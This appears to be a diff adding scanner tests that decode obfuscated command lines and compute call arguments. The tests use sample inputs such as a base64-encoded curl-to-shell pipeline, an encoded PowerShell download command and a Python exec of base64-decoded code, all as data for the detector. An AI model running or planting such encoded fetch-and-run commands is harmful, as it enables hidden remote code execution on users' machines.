@@ -14,6 +14,7 @@ import pytest
 
 from scanner.facts.weights.commands import commands
 from scanner.facts.weights.marshalled import code_objects
+from scanner.facts.weights.programs import literal_calls
 from scanner.facts.weights.reading import read_templates, read_weights
 from scanner.facts.weights.records import WeightsFacts
 from scanner.facts.weights.streams import Allowance, Broken, Expanded
@@ -188,3 +189,21 @@ def test_a_stream_is_expanded_to_its_last_byte() -> None:
 def _all(stream: Expanded) -> Iterator[bytes]:
     while chunk := stream.read(7_000):
         yield chunk
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("echo Y3VybCBodHRwczovL2EuZXhhbXBsZS5uZXQ= | base64 -d | sh", "https://a.example.net"),
+        ("powershell -enc dwBnAGUAdAAgAGgAdAB0AHAAOgAvAC8AYQAuAGIA", "http://a.b"),
+    ],
+)
+def test_encoded_command_lines_are_decoded(line: str, expected: str) -> None:
+    assert expected in {c.addresses for c in commands(line)}
+
+
+def test_arguments_in_a_program_are_computed_by_decoders_only() -> None:
+    code = "import base64\nexec(base64.b64decode('aW1wb3J0IG9z').decode())\nf(open('x').read(), 3)\n"
+    found = {callee: given for callee, given, _ in literal_calls(code)}
+    assert found["exec"] == ["import os"]
+    assert found["f"] == [3]
